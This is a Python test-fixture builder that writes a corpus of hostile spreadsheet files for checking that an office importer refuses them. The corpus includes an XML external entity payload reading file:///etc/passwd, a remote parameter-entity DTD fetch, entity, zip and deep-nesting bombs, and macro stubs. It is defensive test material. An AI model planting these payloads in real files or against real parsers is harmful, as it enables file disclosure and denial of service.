"""Builds the hostile corpus of issue 15: files a careless or malicious sender could mail an office.

Each file must be refused (or, for external links, read with the links never followed) quickly and
in bounded memory. `tests/test_import_trust.py` checks the verdicts; `benchmarks/bench_hostile.py`
measures time and peak memory per file. Run as a script to write the corpus to a folder:
`python tests/hostile_corpus.py OUTDIR`.
"""

from __future__ import annotations

import re
import sys
import zipfile
from dataclasses import dataclass
from pathlib import Path

from broken_corpus import filled_region_workbook, xml_bomb

from core.model.framework import load_framework

MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WS_TYPE = REL_NS + "/worksheet"


@dataclass(frozen=True)
class Hostile:
    name: str
    path: Path
    codes: frozenset[str]  # the error codes the importer must answer with (one of them)
    refused: bool = True  # False: read, with the danger neutralised and named (external links)


def minimal_xlsx(path: Path, sheets: list[bytes], extra: dict[str, bytes] | None = None, **kw) -> Path:
    """A valid workbook with the given worksheet XML parts (written straight, without openpyxl: fast at scale)."""
    ct = (
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        + "".join(
            f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            for i in range(1, len(sheets) + 1)
        )
        + "</Types>"
    )
    root_rels = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{REL_NS}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
    )
    wb = (
        f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{MAIN_NS}" xmlns:r="{REL_NS}"><sheets>'
        + "".join(f'<sheet name="S{i}" sheetId="{i}" r:id="rId{i}"/>' for i in range(1, len(sheets) + 1))
        + "</sheets></workbook>"
    )
    wb_rels = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(
            f'<Relationship Id="rId{i}" Type="{WS_TYPE}" Target="worksheets/sheet{i}.xml"/>'
            for i in range(1, len(sheets) + 1)
        )
        + "</Relationships>"
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, **kw) as z:
        z.writestr("[Content_Types].xml", ct)
        z.writestr("_rels/.rels", root_rels)
        z.writestr("xl/workbook.xml", wb)
        z.writestr("xl/_rels/workbook.xml.rels", wb_rels)
        for i, data in enumerate(sheets, start=1):
            z.writestr(f"xl/worksheets/sheet{i}.xml", data)
        for name, data in (extra or {}).items():
            z.writestr(name, data)
    return path


def sheet_xml(rows: int, cols: int) -> bytes:
    cells = b"".join(b"<c><v>1</v></c>" for _ in range(cols))
    body = b"".join(b"<row>" + cells + b"</row>" for _ in range(rows))
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{MAIN_NS}"><sheetData>'.encode()
        + body
        + (b"</sheetData></worksheet>")
    )


def _merged(good: Path, path: Path, ref: str) -> Path:
    """A copy of the workbook `good` whose worksheets merge the range `ref` (their own merges dropped)."""
    with zipfile.ZipFile(good) as zi, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zo:
        for info in zi.infolist():
            data = zi.read(info.filename)
            if info.filename.startswith("xl/worksheets/sheet"):
                text = re.sub(r"<mergeCells[^>]*>.*?</mergeCells>", "", data.decode(), flags=re.S)
                merge = f'</sheetData><mergeCells count="1"><mergeCell ref="{ref}"/></mergeCells>'
                data = text.replace("</sheetData>", merge, 1).encode()
            zo.writestr(info, data)
    return path


def build(out: Path) -> list[Hostile]:
    """Write every hostile file under `out`; the cases, in a stable order."""
    out.mkdir(parents=True, exist_ok=True)
    fw = load_framework()
    good = out / "_good.xlsx"
    filled_region_workbook(fw).save(good)
    small = sheet_xml(3, 3)
    cases: list[Hostile] = []

    def add(name: str, path: Path, *codes: str, refused: bool = True) -> None:
        cases.append(Hostile(name, path, frozenset(codes), refused))

    add(
        "entity_bomb",
        minimal_xlsx(out / "entity_bomb.xlsx", [xml_bomb(small.replace(b"<v>1</v>", b"<is><t></t></is>", 1))]),
        "xml_dtd_refused",
    )
    external = (
        b'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY e SYSTEM "file:///etc/passwd">]><sst xmlns="'
        + MAIN_NS.encode()
        + b'"><si><t>&e;</t></si></sst>'
    )
    add(
        "external_entity",
        minimal_xlsx(out / "external_entity.xlsx", [small], {"xl/sharedStrings.xml": external}),
        "xml_dtd_refused",
    )
    param = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://example.invalid/x.dtd"> %p;]><x/>'
    add(
        "parameter_entity",
        minimal_xlsx(out / "parameter_entity.xlsx", [small], {"docProps/app.xml": param}),
        "xml_dtd_refused",
    )
    add(
        "zip_bomb",
        minimal_xlsx(out / "zip_bomb.xlsx", [small], {"xl/media/big.xml": b"\0" * (59 * 1024 * 1024)}),
        "zip_bomb",
    )
    add("million_cells", minimal_xlsx(out / "million_cells.xlsx", [sheet_xml(1001, 1000)]), "too_many_cells")
    # a template whose data sheet merges 17 billion cells: a reader would make every one of them
    add("huge_merge", _merged(good, out / "huge_merge.xlsx", "AA1:XFD1048576"), "too_many_cells")
    add("sheets_200", minimal_xlsx(out / "sheets_200.xlsx", [small] * 200), "too_many_sheets")
    deep = b"<x>" * 100_000 + b"</x>" * 100_000  # under 1 MB: the zip-bomb bound does not catch it first
    add("deep_nesting", minimal_xlsx(out / "deep_nesting.xlsx", [small], {"xl/theme/theme1.xml": deep}), "file_corrupt")
    hang = f'<worksheet xmlns="{MAIN_NS}"><sheetData><row>'.encode() + b"<c " * 300_000 + b"<f>"
    add("regex_hang", minimal_xlsx(out / "regex_hang.xlsx", [hang]), "file_corrupt")
    link = b'<?xml version="1.0"?><externalLink xmlns="' + MAIN_NS.encode() + b'"><externalBook/></externalLink>'
    add(
        "external_links",
        minimal_xlsx(out / "external_links.xlsx", [small], {"xl/externalLinks/externalLink1.xml": link}),
        "external_links_ignored",
        refused=False,
    )
    add(
        "macros",
        minimal_xlsx(out / "macros.xlsx", [small], {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 512}),
        "file_has_macros",
    )
    add(
        "activex", minimal_xlsx(out / "activex.xlsx", [small], {"xl/activeX/activeX1.xml": b"<ax/>"}), "file_has_macros"
    )
    (out / "macros.xlsm").write_bytes(good.read_bytes())
    add("xlsm", out / "macros.xlsm", "file_type_refused")
    (out / "not_zip.xlsx").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40)
    add("not_zip", out / "not_zip.xlsx", "file_not_xlsx")
    (out / "empty.xlsx").write_bytes(b"")
    add("empty", out / "empty.xlsx", "file_zero_bytes")
    (out / "password.xlsx").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 8192)  # encrypted OOXML is OLE
    add("password_ole", out / "password.xlsx", "file_not_xlsx")
    data = good.read_bytes()
    trunc = out / "truncated.xlsx"
    trunc.write_bytes(data[: len(data) * 2 // 3])
    add("truncated", trunc, "file_corrupt")
    (out / "empty.ods").write_bytes(b"")
    add("empty_ods", out / "empty.ods", "file_misnamed", "file_zero_bytes")
    (out / "garbage.xls").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 64)
    add("garbage_xls", out / "garbage.xls", "file_unreadable")
    from core.io.row_sources import MAX_TEXT_BYTES

    with open(out / "huge.csv", "wb") as fh:  # over the cap by 1 MB; sparse after the first rows
        fh.write(b"a,b,c,d\n" + b"1,2,3,4\n" * 1024)
        fh.truncate(MAX_TEXT_BYTES + 1024 * 1024)
    add("huge_csv", out / "huge.csv", "file_too_large")
    return cases


if __name__ == "__main__":
    for case in build(Path(sys.argv[1] if len(sys.argv) > 1 else "hostile_corpus")):
        print(f"{case.name:18} {case.path}")
